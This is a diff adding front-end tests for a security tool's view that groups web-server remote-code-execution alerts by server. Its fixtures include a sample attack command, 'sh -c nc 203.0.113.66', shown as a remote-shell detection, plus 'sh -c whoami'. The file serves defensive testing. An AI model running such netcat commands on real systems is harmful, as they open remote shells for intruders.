@@ -1,0 +1,102 @@
+// @vitest-environment jsdom
+import { cleanup, screen, waitFor, within } from '@testing-library/react';
+import { afterEach, expect, test } from 'vitest';
+import { toListedAlert } from '../../../common/alert/listed_alert';
+import type { AlertGroup, AlertGroups } from '../../../common/api/groups/group_alerts';
+import type { Answers } from '../../../test/browser_app/fake_http';
+import { renderApp, type RenderedApp } from '../../../test/browser_app/render_app';
+import { toPage, toSampleAlert } from '../../../test/browser_app/sample_alerts';
+
+afterEach(cleanup);
+
+const FIND = 'POST /internal/web_server_rce/alerts/_find';
+const GROUP = 'POST /internal/web_server_rce/alerts/_group';
+const STATUS = 'POST /internal/web_server_rce/alerts/_status';
+const [SAMPLE] = toPage([toSampleAlert()]).alerts;
+
+const toGroup = (part: Partial<AlertGroup>): AlertGroup => ({
+  ...{ host: 'web-01', server: 'php-fpm8.2', count: 14 },
+  from: '2026-11-24T02:57:00.000Z',
+  to: '2026-11-24T02:58:00.000Z',
+  gravest: { ...(SAMPLE ?? toListedAlert({})), command: 'sh -c nc 203.0.113.66' },
+  signKinds: ['shell', 'download'],
+  ...part,
+});
+
+const renderGroups = (answers: Answers = {}): RenderedApp =>
+  renderApp({
+    path: '/?group=server',
+    answers: {
+      [GROUP]: (): AlertGroups => ({
+        groups: [toGroup({}), toGroup({ host: 'web-02', server: 'apache2', count: 1 })],
+        total: 16,
+        ungrouped: 1,
+      }),
+      ...answers,
+    },
+  });
+
+test('a server is one row: how many alerts, how grave, the gravest command, its signs, and when', async () => {
+  renderGroups();
+  const [first, second] = await screen.findAllByTestId('webServerRceGroupRow');
+  for (const text of ['web-01', 'php-fpm8.2', '14 alerts', 'High', 'sh -c nc 203.0.113.66']) {
+    expect(first?.textContent).toContain(text);
+  }
+  for (const text of ['Remote shell', 'Download', '02:58:00', 'over 1 min']) {
+    expect(first?.textContent).toContain(text);
+  }
+  expect(second?.textContent).toContain('1 alert');
+  expect(
+    screen.getByText(
+      '2 servers, 16 alerts · 1 alert names no host or no server: see them as alerts'
+    )
+  ).toBeDefined();
+});
+
+test('is chosen by a switch that the address keeps, and left by it', async () => {
+  const { user, history } = renderApp({
+    answers: { [GROUP]: () => ({ groups: [toGroup({})], total: 14, ungrouped: 0 }) },
+  });
+  await user.click(await screen.findByTestId('webServerRceGroup-server'));
+  await screen.findByTestId('webServerRceGroupRow');
+  expect(history.location.search).toBe('?group=server');
+  await user.click(screen.getByTestId('webServerRceGroup-none'));
+  await screen.findByTestId('webServerRceAlertRow');
+  expect(history.location.search).toBe('');
+});
+
+test('opens with Enter to the alerts of that server, and the arrows pass over them', async () => {
+  const { user, http } = renderGroups();
+  const [first, second] = await screen.findAllByTestId('webServerRceGroupRow');
+  first?.focus();
+  await user.keyboard('{Enter}');
+  const list = await screen.findByTestId('webServerRceGroupAlerts');
+  expect(await within(list).findByText('sh -c whoami')).toBeDefined();
+  expect(http.bodies(FIND).at(-1)).toMatchObject({
+    ...{ hosts: ['web-01'], servers: ['php-fpm8.2'], perPage: 10 },
+  });
+  await user.keyboard('{ArrowDown}');
+  expect(document.activeElement).toBe(second);
+  await user.keyboard('{ArrowUp}{Enter}');
+  await waitFor(() => expect(screen.queryByTestId('webServerRceGroupAlerts')).toBeNull());
+});
+
+test('closes all alerts of the ticked servers, those of each by its own filter', async () => {
+  const found = toPage([toSampleAlert()]);
+  const { user, http } = renderGroups({
+    [FIND]: () => found,
+    [STATUS]: () => ({ ids: found.alerts.map(({ id }) => id) }),
+  });
+  const rows = await screen.findAllByTestId('webServerRceGroupRow');
+  for (const row of rows) await user.click(within(row).getByRole('checkbox'));
+  expect(screen.getByText('15 alerts selected')).toBeDefined();
+  await user.click(screen.getByTestId('webServerRceBulk-closed'));
+  await waitFor(() => expect(http.bodies(STATUS)).toHaveLength(2));
+  const filters = http.bodies(FIND).filter((body) => (body as { perPage: number }).perPage === 100);
+  expect(filters).toMatchObject([
+    { hosts: ['web-01'], servers: ['php-fpm8.2'], statuses: ['open', 'acknowledged'] },
+    { hosts: ['web-01'], servers: ['php-fpm8.2'] },
+    { hosts: ['web-02'], servers: ['apache2'], statuses: ['open', 'acknowledged'] },
+    { hosts: ['web-02'], servers: ['apache2'] },
+  ]);
+});
